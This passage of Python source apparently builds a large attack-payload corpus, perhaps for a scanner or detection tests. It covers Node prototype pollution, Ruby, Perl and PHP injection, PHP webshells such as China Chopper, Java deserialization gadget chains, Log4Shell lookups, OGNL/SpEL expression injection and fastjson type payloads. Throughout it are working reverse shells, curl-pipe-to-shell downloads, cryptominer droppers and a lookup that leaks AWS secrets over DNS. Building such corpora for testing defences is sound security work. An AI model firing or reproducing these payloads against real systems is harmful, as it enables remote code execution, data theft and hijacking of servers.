    ('{"__proto__":{"client":true,"escapeFunction":"1;return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'cat /flag\')"}}', *JB),
    # pug AST injection through a polluted block
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync('
     '\'id\')"}}}', *JB),
    # child_process.spawn options gadget (NODE_OPTIONS / shell polluted, the Kibana-era trick)
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', *JB),
    ('{"__proto__":{"env":{"EVIL":"console.log(require(\'child_process\').execSync(\'touch /tmp/pp2rce\')'
     '.toString())//"},"NODE_OPTIONS":"--require /proc/self/environ"}}', *JB),
    # a single-pass filter that deletes "__proto__" once (Chinese CTF): the leftovers rebuild it
    ('{"__pro__proto__to__":{"admin":1}}', *JB),
    # lodash.set / dotted-path setters
    ('{"path":"__proto__.isAdmin","value":true}', *JB),
    ('{"key":"constructor.prototype.outputFunctionName","val":"x;process.mainModule.require(\'child_process\')'
     '.exec(\'id\');x"}', *JB),
    # query-string parsers (qs, jQuery deparam, can.deparam): brackets and dots
    kv("__proto__[isAdmin]=true"),
    kv("__proto__.role=admin", "form", "rs-raw-body"),
    kv("constructor[prototype][isAdmin]=1"),
    kv("a[__proto__][polluted]=yes", "param-name", "rs-param-name"),
    kv("__proto__[toString]=1&__proto__[valueOf]=1", "form", "rs-raw-body"),
    # client-side gadgets reached from the query (browser: jQuery, script src, innerHTML sinks)
    kv("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>"),
    kv("__proto__[src]=data:,alert(1)//&__proto__[onload]=alert(1)", "param-name", "rs-param-name"),
    kv("constructor.prototype.preventDefault=x&constructor.prototype.handleObj.delegateTarget="
       "<img/src/onerror=alert(1)>", "form", "rs-raw-body"),
    # markers in the attacker's own language: a plain pollution probe
    ('{"__proto__":{"polluted":"ваш сайт взломан"}}', *JB),
    ('{"__proto__":{"status":510,"测试":"原型链污染"}}', *JB),
]

_YAML_UNIVERSAL = (
    "---\n"
    "- !ruby/object:Gem::Installer\n"
    "    i: x\n"
    "- !ruby/object:Gem::SpecFetcher\n"
    "    i: y\n"
    "- !ruby/object:Gem::Requirement\n"
    "  requirements:\n"
    "    !ruby/object:Gem::Package::TarReader\n"
    "    io: &1 !ruby/object:Net::BufferedIO\n"
    "      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "         read: 0\n"
    "         header: \"abc\"\n"
    "      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "         socket: &1 !ruby/object:Gem::RequestSet\n"
    "             sets: !ruby/object:Net::WriteAdapter\n"
    "                 socket: !ruby/module 'Kernel'\n"
    "                 method_id: :system\n"
    "             git_set: curl http://203.0.113.5/r.sh | sh # テスト\n"
    "         method_id: :resolve\n"
)
_YAML_ROUTES = (
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
    "? ! \"foo; system('id'); @foo\"\n"
    ": !ruby/struct\n"
    "  defaults:\n"
    "    :action: create\n"
    "    :controller: foos\n"
    "  required_parts: []\n"
    "  requirements:\n"
    "    :action: create\n"
    "    :controller: foos\n"
    "  segment_keys:\n"
    "    - :format\n"
)

# ruby-injection: input reaching eval/instance_eval/send, Kernel#system and backticks, Kernel#open's pipe,
# ERB rendering and YAML.load / Marshal.load (Ruby interpreter; Rails apps; Japanese and Brazilian Ruby shops)
RUBY: list[Entry] = [
    "eval(\"system('id')\") # テスト",
    "#{`cat /etc/passwd`}",
    "\"; system('id'); \"",
    "`curl http://rb.r7x2.dnslog.cn/$(whoami)` # 確認用",
    "%x(uname -a)",
    "IO.popen('id').read",
    "Kernel.exec('/bin/sh -c \"sh -i >& /dev/tcp/203.0.113.14/4444 0>&1\"')",
    "Open3.capture2('ls -la /')[0] # só um teste",
    "instance_eval('File.read(\"/etc/shadow\")')",
    "send(:system, 'whoami')",
    "Object.const_get(:Kernel).public_send(:system, 'id')",
    "eval(\"\\x73ystem('id')\")",
    "[1].map(&:to_s).class.class.send(:eval, 'system(\"id\")')",
    "require 'socket';s=TCPSocket.new('203.0.113.14',4444);[0,1,2].each{|f|$stdin.reopen(s) if f==0};"
    "exec('/bin/sh -i <&3 >&3 2>&3') # обратный шелл",
    # Kernel#open / URI.open with a leading pipe runs the rest as a shell command
    "|cat /etc/passwd",
    "|curl -s http://203.0.113.91/m.sh | bash # đào coin",
    "| id > /tmp/kiểm_tra.txt",
    "<%= system('id') %>",
    "<%= `ls /` %> <%# 日本語のコメント %>",
    (_YAML_UNIVERSAL, *YB),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><bingo type=\"yaml\">" + _YAML_ROUTES.replace("&", "&amp;")
     + "</bingo>", *XB),
    b64(rails_erb_marshal("%x(curl http://203.0.113.5/r.sh | sh)")),
    b64(rails_erb_marshal("`id > /tmp/teste_rails.txt`")),
]

# perl-injection: two-argument open() with pipes, system/exec/qx/backticks, eval (Perl CGI scripts, AWStats,
# Webmin, Movable Type)
PERL: list[Entry] = [
    "|cat /etc/passwd|",
    "id|",
    "/etc/passwd; id |",
    "|echo;id;echo|",
    ";system('id');",
    "`id`",
    "qx{cat /etc/shadow}",
    "exec('/bin/sh -i')",
    "open(my $f, '-|', 'uname -a'); print <$f>; # проверка",
    "eval { system(\"curl -s http://203.0.113.5/p.pl|perl\") }; # 测试",
    "`\\x69d`",
    "@{[ system 'id' ]}",
    "(?{ system('id') })",
    "${\\ `whoami`}",
    "perl -e 'use Socket;$i=\"203.0.113.14\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.14:8080\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    # AWStats configdir, the old shared-hosting favourite
    kv("configdir=|echo;echo;id;echo|"),
    # Webmin password_change.cgi (CVE-2019-15107)
    kv("user=root&pam=&expired=2&old=test|id&new1=test2&new2=test2", "form", "rs-raw-body"),
    # Movable Type XML-RPC (CVE-2021-20837): backticks in a base64 argument, a Japanese CMS target
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><methodCall><methodName>mt.handler_to_coderef</methodName>"
     "<params><param><value><base64>" + b64("`id`") + "</base64></value></param></params></methodCall>", *XB),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><methodCall><methodName>mt.handler_to_coderef</methodName>"
     "<params><param><value><base64>" + b64("`curl -s http://203.0.113.5/mt.sh|sh`") + "</base64></value>"
     "</param></params></methodCall>", *XB),
    ">/var/www/cgi-bin/x.cgi",
]


def _php_data(code: str) -> str:
    return "data://text/plain;base64," + b64(code)


# php-data-scheme: data: URLs reaching include()/file_get_contents() with allow_url_include on (PHP interpreter;
# WordPress plugins, ThinkPHP, DedeCMS, Lokomedia and NukeViet-era hosts)
PHP_DATA: list[Entry] = [
    # the China Chopper one-liner (一句话木马), then a writer that drops it as a file
    _php_data("<?php @eval($_POST['pass']);?>"),
    _php_data("<?php file_put_contents('shell.php','<?php @eval($_POST[\"cmd\"]);?>');echo '写入成功';?>"),
    _php_data("<?php assert($_REQUEST['x']); // 菜刀 ?>"),
    # Indonesian deface uploaders: a marker and an upload form
    _php_data("<?php echo 'Hacked by IndoXploit';echo '<form method=post enctype=multipart/form-data>"
              "<input type=file name=f><input type=submit></form>';if($_FILES){copy($_FILES['f']['tmp_name'],"
              "$_FILES['f']['name']);echo 'sukses gan';}?>"),
    _php_data("<?php system($_GET['cmd']); // tes dulu ?>"),
    # Russian, Turkish, Persian and Vietnamese markers around the same shell
    _php_data("<?php /* проверка */ passthru($_GET['c']); ?>"),
    _php_data("<?php echo 'deneme'; echo shell_exec($_GET['komut']); ?>"),
    _php_data("<?php echo 'تست'; system($_POST['x']); ?>"),
    _php_data("<?php echo 'thử nghiệm'; eval(base64_decode($_POST['z'])); ?>"),
    _php_data("<?=`{$_GET[0]}`?>"),
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "data:,<?php echo file_get_contents('/etc/passwd');?>",
    "data://text/plain;charset=utf-8;base64," + b64("<?php eval($_POST['测试']);?>"),
    "data://image/jpeg;base64," + b64("<?php system('ls -la');?>"),
    "DATA://text/plain;base64," + b64("<?php echo `id`;?>"),
    "data:;base64," + b64("<?php phpinfo(); ?>"),
    # Orange Tsai's compress.zlib + data:@host parsing trick
    "compress.zlib://data:@127.0.0.1/plain;base64," + b64("<?php system($_GET[1]);?>"),
    # ThinkPHP 5 style include through a template variable
    "?s=index/\\think\\Lang/load&file=data://text/plain;base64," + b64("<?php phpinfo();?>"),
    "data://text/plain;base64," + b64("<?php $s=$_GET['s'];$s($_GET['a']); // 变量函数 ?>"),
]


# ================================================================================================================
# java
# ================================================================================================================
def bcel(data: bytes) -> str:
    """BCEL's Utility.encode(data, compress=true): gzip as java.util.zip writes it, then BCEL's escaping."""
    deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = deflate.compress(data) + deflate.flush()
    gz = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x00" + body + struct.pack("<II", zlib.crc32(data), len(data))
    char_map = [chr(c) for c in range(ord("A"), ord("Z") + 1)] + [chr(c) for c in range(ord("g"), ord("z") + 1)]
    char_map += ["$", "_"]
    out = []
    for byte in gz:
        ch = chr(byte)
        if ch.isascii() and (ch.isalnum() or ch == "_"):
            out.append(ch)
        else:
            out.append("$" + (char_map[byte] if byte < 48 else format(byte, "02x")))
    return "$$BCEL$$" + "".join(out)


LDAP = "ldap://203.0.113.77:1389/"
RMI = "rmi://203.0.113.77:1099/"
_REV = b64("bash -i >& /dev/tcp/203.0.113.14/4444 0>&1")
_MINER = b64("(curl -s 203.0.113.66:5874/127.0.0.1:80||wget -q -O- 203.0.113.66:5874/127.0.0.1:80)|bash")

# java-class-names: the class names that turn an expression or script sink into code execution (Groovy, Nashorn
# and Rhino script engines, BeanShell, reflection in Java expression consoles)
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"calc.exe\") // 弹个计算器试试",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class.forName("
    "\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
    ".invoke(null).exec(\"touch /tmp/проверка\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"new java.lang.ProcessBuilder("
    "'sh','-c','curl 203.0.113.77|sh').start()\")",
    "Java.type('java.lang.Runtime').getRuntime().exec('whoami') // 测试",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "importPackage(java.lang);Runtime.getRuntime().exec(\"cat /etc/passwd\")",
    "java.lang.System.getenv().toString() // проверка",
    "java.lang.Thread.sleep(10000) // 延时探测",
    "new javax.naming.InitialContext().lookup(\"" + LDAP + "Basic/Command/whoami\")",
    "Class.forName(\"sun.misc.Unsafe\").getDeclaredField(\"theUnsafe\")",
    "java.lang.reflect.Method m=Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\","
    "String[].class,java.util.Map.class,String.class,ProcessBuilder.Redirect[].class,boolean.class);"
    "m.setAccessible(true);m.invoke(null,new String[]{\"id\"},null,\".\",null,true); // 绕过RASP",
    "this.class.classLoader.loadClass('java.lang.Runtime').getRuntime().exec('uname -a')",
    "new java.util.Scanner(new java.io.File(\"/etc/passwd\")).useDelimiter(\"\\\\A\").next()",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/shadow\")) // teste",
    "java.lang.Runtime.getRuntime().exec(\"powershell -nop -w hidden -c IEX(New-Object Net.WebClient)"
    ".DownloadString('http://203.0.113.77/a.ps1')\") // تست",
    "Class.forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"JavaScript\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
]

# java-process-spawn: Runtime.exec / ProcessBuilder / Groovy execute() through script consoles and servlets
# (Jenkins, WebLogic console, e-cology BeanShell servlet, Nashorn eval endpoints)
JAVA_SPAWN: list[Entry] = [
    kv("script=println \"whoami\".execute().text", "form", "rs-raw-body"),
    "def proc = \"cat /etc/passwd\".execute(); println proc.text // 测试",
    "[\"bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.14/4444 0>&1\"].execute() // реверс",
    "'nc 203.0.113.23 4444 -e /bin/bash'.execute() // تست",
    "Runtime.runtime.exec('id').text",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"whoami\").start()",
    "new java.lang.ProcessBuilder(new String[]{\"/bin/bash\",\"-c\",\"id\"}).redirectErrorStream(true)"
    ".start().getInputStream()",
    "Runtime.getRuntime().exec(\"bash -c {echo," + _REV + "}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"curl http://203.0.113.77/x|sh\"})",
    "Runtime.getRuntime().exec(\"sh -c wget${IFS}http://203.0.113.91/kdevtmpfsi${IFS}-O${IFS}/tmp/k\") "
    "// đào coin",
    # WebLogic console (CVE-2020-14882/14883), the handle class runs MVEL
    kv("_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime"
       ".getRuntime().exec('touch /tmp/success');\")"),
    kv("_nfpb=true&_pageLabel=&handle=com.bea.core.repackaged.springframework.context.support."
       "FileSystemXmlApplicationContext(\"http://203.0.113.77/poc.xml\")", "form", "rs-raw-body"),
    # e-cology BeanShell servlet (泛微 OA), plain and with the \u escapes BeanShell's lexer decodes
    kv("bsh.script=exec(\"whoami\");&bsh.servlet.output=raw", "form", "rs-raw-body"),
    kv("bsh.script=\\u0065\\u0078\\u0065\\u0063(\"cmd /c whoami\");&bsh.servlet.captureOutErr=true", "form",
       "rs-raw-body"),
    "var pb=new java.lang.ProcessBuilder('id');pb.redirectErrorStream(true);var p=pb.start();"
    "new java.util.Scanner(p.getInputStream()).useDelimiter('\\\\A').next()",
    # Jenkins: ASTTest and @Grab run at compile time (script-security sandbox bypasses)
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})\nclass Person{}",
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='orange.tw', root='http://203.0.113.77/')\n"
    "@Grab(group='tw.orange', module='poc', version='1')\nimport Orange;",
    "java.lang.Runtime.getRuntime().exec(\"cmd /c certutil -urlcache -split -f http://203.0.113.77/a.exe "
    "%TEMP%\\\\a.exe\")",
]

_URLDNS_CN = urldns("http://ser.r7x2.dnslog.cn/")

# java-serialization: Java serialization streams (magic ac ed 00 05) as raw bytes (percent-encoded on the wire),
# base64 (rO0AB), hex, percent-encoded text and gzip+base64 JSF ViewState (any ObjectInputStream.readObject sink:
# JBoss invokers, WebLogic/WebSphere, JSF, Shiro-era cookies)
JAVA_SER: list[Entry] = [
    raw_bytes(_URLDNS_CN),
    raw_bytes(cc6("curl http://203.0.113.77/测试"), "form", "rs-raw-body"),
    raw_bytes(cc5("bash -c {echo," + _REV + "}|{base64,-d}|{bash,-i}")),
    raw_bytes(jdk7u21(), "form", "rs-raw-body"),
    raw_bytes(urldns("http://xn--e1aybc.r.oastify.com/"), "param-name", "rs-param-name"),
    b64(_URLDNS_CN),
    b64(urldns("http://x.q2.ceye.io/")),
    b64(urldns("http://vn.oast.fun/thu-nghiem")),
    _URLDNS_CN.hex(),
    urldns("http://hex.r7x2.dnslog.cn/").hex().upper(),
    (pct(urldns("http://ru.oastify.com/proverka")), "cookie", "rs-cookie"),
    base64.urlsafe_b64encode(urldns("http://urlsafe.q2.ceye.io/")).decode(),
    kv("javax.faces.ViewState=" + b64(gzip.compress(cc5("calc"), mtime=0)), "form", "rs-raw-body"),
    b64(gzip.compress(urldns("http://jsf.r7x2.dnslog.cn/"), mtime=0)),
    cc6("touch /tmp/tr_deneme").hex(),
    b64(cc5("touch /tmp/تست_سریال")),
]

# deserialization-gadgets: the chains themselves (commons-collections, Spring, Groovy, JDK 7u21, c3p0, ROME,
# Hibernate) as base64 streams for readObject sinks, as Jackson default-typing arrays and as XStream documents
GADGETS: list[Entry] = [
    b64(cc5("ping -c 1 cc5.r7x2.dnslog.cn")),
    b64(cc6("bash -c {echo," + _MINER + "}|{base64,-d}|bash")),
    b64(cc6("wget http://203.0.113.91/kinsing -O /tmp/kinsing")),
    b64(jdk7u21()),
    ('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
     + cc6("touch /tmp/c3p0_测试").hex() + ';"}]', *JB),
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"' + RMI + 'Exploit","loginTimeout":0}]',
     *JB),
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.77/spel.xml"]',
     *JB),
    ('["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":"' + LDAP
     + 'obj","propertyPath":"foo","beanFactory":["org.springframework.jndi.support.SimpleJndiBeanFactory",'
     '{"shareableResources":["' + LDAP + 'obj"]}]}]', *JB),
    ('["org.hibernate.jmx.StatisticsService",{"sessionFactoryJNDIName":"' + LDAP + 'hibernate"}]', *JB),
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"' + LDAP + 'Exploit"}]', *JB),
    ('["br.com.anteros.dbcp.AnterosDBCPConfig",{"healthCheckRegistry":"' + LDAP + 'teste"}]', *JB),
    ('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"' + LDAP + 'hikari"}]', *JB),
    # XStream: Groovy's MethodClosure behind an Expando's hashCode
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
     "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference=\"../../../..\"/>"
     "<owner class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>-c</string>"
     "<string>curl 203.0.113.77/g.sh|sh</string></command><redirectErrorStream>false</redirectErrorStream></owner>"
     "<resolveStrategy>0</resolveStrategy><directive>0</directive><parameterTypes/><maximumNumberOfParameters>0"
     "</maximumNumberOfParameters><method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry>"
     "</expandoProperties></groovy.util.Expando><int>1</int></entry></map>", *XB),
    # XStream: ROME's ObjectBean hashCode calls every getter of JdbcRowSetImpl (getDatabaseMetaData -> JNDI)
    ("<map><entry><com.sun.syndication.feed.impl.ObjectBean><__equalsBean><__beanClass>"
     "com.sun.rowset.JdbcRowSetImpl</__beanClass><__obj class=\"com.sun.rowset.JdbcRowSetImpl\">"
     "<dataSource>" + LDAP + "rome</dataSource><command>select 1</command><concurrency>1008</concurrency>"
     "<type>1004</type></__obj></__equalsBean><__toStringBean><__beanClass>javax.sql.rowset.BaseRowSet"
     "</__beanClass><__obj class=\"com.sun.rowset.JdbcRowSetImpl\" reference=\"../../__equalsBean/__obj\"/>"
     "</__toStringBean></com.sun.syndication.feed.impl.ObjectBean><string>x</string></entry></map>", *XB),
    # XStream: EventHandler proxy over Comparable in a sorted set (CVE-2013-7285), comment in Chinese
    ("<sorted-set><!-- 反弹shell --><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>bash</string><string>-c</string><string>bash -i &gt;&amp; /dev/tcp/203.0.113.14/4444 0&gt;&amp;1"
     "</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
     "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>calc.exe</string>"
     "</command></target><action>start</action></handler></dynamic-proxy><string>deneme</string></entry>"
     "</tree-map>", *XB),
    ('{"@type":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":'
     '"HexAsciiSerializedMap:' + cc5("nslookup c3p0.q2.ceye.io").hex() + ';"}', *JB),
]

# log4shell: ${jndi:...} lookups in anything Log4j 2 logs (headers, form fields, JSON), with nested lookups and
# case tricks, JNDIExploit's routes, DNS exfiltration of lookups, and the Turkish dotless i
LOG4J: list[Entry] = [
    "${jndi:ldap://log4j.r7x2.dnslog.cn/a}",
    "${jndi:" + LDAP + "Basic/Command/Base64/" + _REV + "}",
    "${jndi:" + RMI + "TomcatBypass/Command/Base64/" + b64("curl 203.0.113.77/t.sh|bash") + "}",
    "${jndi:" + LDAP + "Deserialization/CommonsCollectionsK1/Dnslog/k1.r7x2.dnslog.cn}",
    "${jndi:ldap://203.0.113.66:12344/Basic/Command/Base64/" + _MINER + "}",
    "${jndi:dns://${sys:java.version}.${env:USER}.q2.ceye.io}",
    "${jndi:ldap://${hostName}.${env:HOSTNAME:-x}.lg.q2.ceye.io/x}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}${lower:m}${lower:i}://203.0.113.77:1099/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.77/a}",
    "${jnd${upper:ı}:ldap://203.0.113.77:1389/deneme}",
    "${j${upper:ı}ndi:ldap://tr.r7x2.dnslog.cn/ı}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.77/a}",
    "${jndi:ldap://127.0.0.1#bypass.r7x2.dnslog.cn:1389/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.77/d}",
    "${jndi:ldaps://203.0.113.77:636/o}",
    "${jndi:iiop://203.0.113.77:1050/z}",
    "${${upper:j}ndi:${upper:l}dap://up.q2.ceye.io/a}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.77/k}",
    "سلام ${jndi:ldap://203.0.113.77:1389/fa}",
    "你好${jndi:ldap://${sys:user.name}.r7x2.dnslog.cn/hi}",
    "Привет ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.ru.oastify.com/a}",
    ('{"username":"\\u0024{jndi:ldap://203.0.113.77:1389/json}","password":"123456"}', *JB),
    "${jndi:ldap://[::ffff:203.0.113.77]:1389/v6}",
]

_S2_045 = (
    "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='whoami').(#iswin=(@java.lang.System@getProperty('os.name')"
    ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
    "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
    "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
    "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)
_S2_045_CN = _S2_045.replace("(#cmd='whoami')", "(#cmd='echo ceshi_chenggong')").replace("#nike", "#ceshi")

# expression-language: OGNL (Struts 2, Confluence), SpEL (Spring Cloud Function/Gateway, Spring Data), MVEL,
# JEXL (Nexus Repository) and JSP EL injection
EL: list[Entry] = [
    (_S2_045, *CT),
    (_S2_045_CN, *CT),
    ("redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass()"
     ".getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),"
     "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
     "param-name", "rs-param-name"),
    kv("method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2."
       "ServletActionContext@getResponse(),#res.setCharacterEncoding(#parameters.encoding[0]),#w=#res.getWriter(),"
       "#s=new java.util.Scanner(@java.lang.Runtime@getRuntime().exec(#parameters.cmd[0]).getInputStream())"
       ".useDelimiter(#parameters.pp[0]),#str=#s.hasNext()?#s.next():#parameters.ppp[0],#w.print(#str),"
       "#w.close(),1?#xx:#request.toString&cmd=id&pp=\\A&ppp= &encoding=UTF-8"),
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\")"
     ".getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
     ".setHeader(\"X-Cmd-Response\",#a))}", "path", "rs-path"),
    kv("queryString=aaaa\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance()"
       ".getEngineByName(\\u0027JavaScript\\u0027).\\u0065val(\\u0027var p=new java.lang.ProcessBuilder("
       "\\u0022bash\\u0022,\\u0022-c\\u0022,\\u0022id\\u0022);p.redirectErrorStream(true);"
       "new java.util.Scanner(p.start().getInputStream()).useDelimiter(\\u0022\\\\\\\\A\\u0022).next()"
       "\\u0027)}+\\u0027", "form", "rs-raw-body"),
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    ('{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String('
     'T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('
     'new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}', *JB),
    kv("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"calc.exe\")]=chybeta"
       "&password=chybeta&repeatedPassword=chybeta", "form", "rs-raw-body"),
    "#{T(java.lang.Runtime).getRuntime().exec('nslookup spel.r7x2.dnslog.cn')}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character)"
    ".toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
    "#{new java.lang.ProcessBuilder({'/bin/sh','-c','cat /etc/passwd'}).start()}",
    "#{T(java.lang.System).getenv()} #{'测试'}",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "def x() { Runtime.getRuntime().exec(\"touch /tmp/mvel_проверка\") }; x();",
    ('{"name":"internal","online":true,"storage":{"blobStoreName":"default","strictContentTypeValidation":true},'
     '"group":{"memberNames":["$\\\\c{\'\'.getClass().forName(\'java.lang.Runtime\').getMethods()[6]'
     '.invoke(null).exec(\'touch /tmp/nexus\')}"]}}', *JB),
    ('{"action":"coreui_User","method":"update","data":[{"userId":"anonymous","version":"1","firstName":'
     '"Anonymous","lastName":"User2","email":"anonymous@example.org","status":"active","roles":["$\\\\A{\'\''
     '.getClass().forName(\'java.lang.Runtime\').getMethods()[6].invoke(null).exec(\'id\')}"]}],'
     '"type":"rpc","tid":233}', *JB),
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'calc')}",
    "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")}",
    "${pageContext.request.getSession().getServletContext().getClassLoader().getResources(\"\")}",
]

# polymorphic-deserialization: type-tagged JSON and XML that instantiate arbitrary classes (fastjson's @type with
# its version bypasses, Jackson default typing, XMLDecoder in WebLogic's WorkContext, XStream)
POLY: list[Entry] = [
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"' + LDAP + 'Exploit","autoCommit":true}', *JB),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
     '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"' + RMI + 'Exploit","autoCommit":true}}', *JB),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"' + LDAP + '1241","autoCommit":true}', *JB),
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"' + LDAP + '1242","autoCommit":true}', *JB),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"' + LDAP + '1243","autoCommit":true}', *JB),
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"'
     + LDAP + 'mybatis"}}', *JB),
    ('{"@type":"java.net.Inet4Address","val":"fj.r7x2.dnslog.cn"}', *JB),
    ('{{"@type":"java.net.URL","val":"http://fj2.q2.ceye.io"}:"aaa"}', *JB),
    ('{"\\u0040\\u0074\\u0079\\u0070\\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"' + LDAP
     + 'u","autoCommit":true}', *JB),
    ('{"\\x40\\x74ype":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"' + LDAP + 'x","autoCommit":true}', *JB),
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + TRANSLET_B64
